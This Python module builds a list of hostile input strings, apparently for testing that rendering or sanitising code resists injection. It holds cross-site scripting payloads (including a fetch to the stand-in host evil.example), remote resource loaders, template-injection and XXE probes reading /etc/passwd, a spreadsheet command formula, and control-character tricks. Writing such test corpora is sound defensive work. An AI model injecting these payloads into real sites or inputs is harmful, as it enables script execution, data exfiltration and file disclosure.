"""Strings that try to be more than text: markup, scripts, requests, control characters."""

from __future__ import annotations

import itertools

_CALLS = ("alert(1)", "fetch('http://evil.example/c')")
_CARRIERS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<details open ontoggle={}>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<a href='javascript:{}'>click</a>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' tabindex='0' autofocus x='",
    "javascript:{}",
)
_LOADERS = (
    "<img src='http://evil.example/{}.png'>",
    "<link rel=stylesheet href='http://evil.example/{}.css'>",
    "<style>@import 'http://evil.example/{}.css'</style>",
    "<div style='background:url(http://evil.example/{}.png)'>",
    "<iframe src='http://evil.example/{}'></iframe>",
    "<base href='http://evil.example/{}/'>",
    "<svg><image href='http://evil.example/{}.png'/></svg>",
)
_TEXTS = (
    "<b>bold</b>",
    "</bdi></dd></dl></details></section></main><h1>mine</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;amp;&nbsp;&copy",
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "<!-- never closed",
    "<plaintext>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "line\u2028separator\u2029paragraph",
    "nul\x00byte",
    "bell\x07 backspace\x08 escape\x1b[31mred\x1b[0m",
    "carriage\r\nreturn",
    "right\u202eto left\u202c",
    "zero\u200bwidth\u200cjoin\u200der\ufeff",
    "tag\U000e0041\U000e0042characters",
    "lone \ud800 surrogate \udfff",
    "private \ue000 use \U0010ffff end",
    "Z\u0351\u0363\u0364a\u0308\u0327l\u030d\u0330g\u0340\u0341o\u0345",
    "שלום <script>alert(1)</script> עולם",
    "=cmd|' /C calc'!A0",
    "  spaces  and\ttabs  ",
    "\nleading newline",
    "[link](javascript:alert(1)) ![img](http://evil.example/md.png)",
    "a" * 250,
    "she <script>her</script> he",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script src=//evil.example/x.js></script>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    'class="x" fill="#1c2430" 0.123456789',
    "</text></svg><script>alert(1)</script>",
    "<think>hidden</think> seen",
    "<u\u200bnseen>",
)

HOSTILE = (
    *(carrier.format(call) for carrier, call in itertools.product(_CARRIERS, _CALLS)),
    *(loader.format(place) for place, loader in enumerate(_LOADERS)),
    *_TEXTS,
)
